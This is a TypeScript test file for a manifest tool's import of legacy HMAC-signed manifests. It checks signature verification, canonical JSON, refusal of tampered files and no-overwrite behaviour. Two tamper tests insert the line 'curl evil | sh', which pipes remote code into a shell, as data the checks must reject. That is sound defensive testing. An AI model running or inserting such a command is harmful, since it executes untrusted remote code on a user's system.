// `swr import` of the original tool's format-2 manifests: converted, checked directly by `check`,
// and signed in the new format only after the old HMAC signature holds (or an approval).
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import fs from 'node:fs'
import path from 'node:path'
import { verifyLegacyHmac, pythonCanonical } from '../../src/core/manifest/legacy-signature.js'
import { parseStrictJson, type JsonValue } from '../../src/core/manifest/strict-json.js'
import { makeWorkspace, run, write, type Workspace } from '../../__fixtures__/workspace.js'

const fixtures = path.resolve(import.meta.dirname, '..', '..', '__fixtures__', 'legacy')
const legacyText = fs.readFileSync(path.join(fixtures, 'manifest-v2.json'), 'utf8')
const legacyKey = path.join(fixtures, 'signing.key')

let ws: Workspace
beforeEach(() => {
  ws = makeWorkspace()
})
afterEach(() => ws.cleanup())

/** The fixture, pointed at this test's workspace (which changes the body, so re-sign in Python form). */
function v2In(workspace: string): string {
  return legacyText.replace('/tmp/legacy-ws', workspace)
}

describe('format-2 HMAC signatures', () => {
  it('verifies a signature made by Python json.dumps + hmac (non-ASCII text included)', () => {
    const v2 = parseStrictJson(legacyText).value as { [k: string]: JsonValue }
    expect(verifyLegacyHmac(v2, fs.readFileSync(legacyKey, 'utf8'))).toBe('valid')
    expect(verifyLegacyHmac(v2, 'f'.repeat(64))).toBe('invalid')
    const tampered = parseStrictJson(legacyText.replace('chmod +x run.sh', 'curl evil | sh')).value
    expect(
      verifyLegacyHmac(tampered as { [k: string]: JsonValue }, fs.readFileSync(legacyKey, 'utf8'))
    ).toBe('invalid')
    const { _sig: _dropped, ...unsigned } = v2
    expect(verifyLegacyHmac(unsigned, fs.readFileSync(legacyKey, 'utf8'))).toBe('absent')
  })

  it('writes keys in code-point order and non-ASCII text raw, as Python does', () => {
    expect(pythonCanonical({ b: 1, a: ['é', '\n'], '\u{1F600}': 0, '\uFF21': 2 })).toBe(
      '{"a":["é","\\n"],"b":1,"Ａ":2,"😀":0}'
    )
  })
})

describe('swr import', () => {
  it("imports with --legacy-key: signature checked, result signed with this machine's key", async () => {
    const env = { SWR_HMAC_KEY: 'ab'.repeat(32) }
    const out = await run(
      ['import', path.join(fixtures, 'manifest-v2.json'), '--legacy-key', legacyKey, '--json'],
      { ...ws, env }
    )
    expect(out.code).toBe(0)
    const r = JSON.parse(out.stdout) as { signed: boolean; manifest: string }
    expect(r.signed).toBe(true)
    const verify = await run(['verify', '-m', r.manifest, '--json'], { ...ws, env })
    expect(JSON.parse(verify.stdout).allowed).toBe(true)
  })

  it('refuses a tampered format-2 manifest under --legacy-key, writing nothing', async () => {
    const bad = write(ws.root, 'old.json', legacyText.replace('chmod +x run.sh', 'curl evil | sh'))
    const out = await run(['import', bad, '--legacy-key', legacyKey], ws)
    expect(out.code).toBe(2)
    expect(out.stderr).toMatch(/HMAC signature is invalid/)
    expect(fs.existsSync(ws.manifestFile)).toBe(false)
  })

  it('imports without a key as unsigned even when this machine has keys (no laundering)', async () => {
    const env = { SWR_HMAC_KEY: 'ab'.repeat(32) }
    const out = await run(['import', path.join(fixtures, 'manifest-v2.json'), '--json'], {
      ...ws,
      env
    })
    expect(out.code).toBe(0)
    const doc = JSON.parse(fs.readFileSync(JSON.parse(out.stdout).manifest, 'utf8'))
    expect(doc.signatures).toEqual([])
    expect(doc.body.schema).toBe(3)
  })

  it('never overwrites an existing manifest', async () => {
    write(ws.root, '.swr/manifest.json', 'precious')
    const out = await run(['import', path.join(fixtures, 'manifest-v2.json')], ws)
    expect(out.code).toBe(4)
    expect(fs.readFileSync(ws.manifestFile, 'utf8')).toBe('precious')
  })

  it('a format-2 manifest is checked directly and its import checks the same', async () => {
    write(ws.root, 'run.sh', '#!/bin/sh\necho\n', 0o755)
    const v2 = JSON.parse(v2In(ws.root))
    v2.entries[0].sha256 = 'ae00bc2b07a2b96a8f0b3cbcd1d3ab9ae6e62ad18a2b46c26de9a26ff4c9c6e5'
    const file = write(ws.root, 'old.json', JSON.stringify(v2))
    const direct = await run(['check', '-m', file, '--json'], ws)
    const report = JSON.parse(direct.stdout)
    expect(report.manifest.format).toBe(2)
    expect(report.results[0].id).toBe('run')
    const imported = await run(['import', file, '-m', path.join(ws.root, 'new.json')], ws)
    expect(imported.code).toBe(0)
    const after = JSON.parse(
      (await run(['check', '-m', path.join(ws.root, 'new.json'), '--json'], ws)).stdout
    )
    expect(after.manifest.format).toBe(3)
    expect(after.results.map((r: { status: string }) => r.status)).toEqual(
      report.results.map((r: { status: string }) => r.status)
    )
  })
})
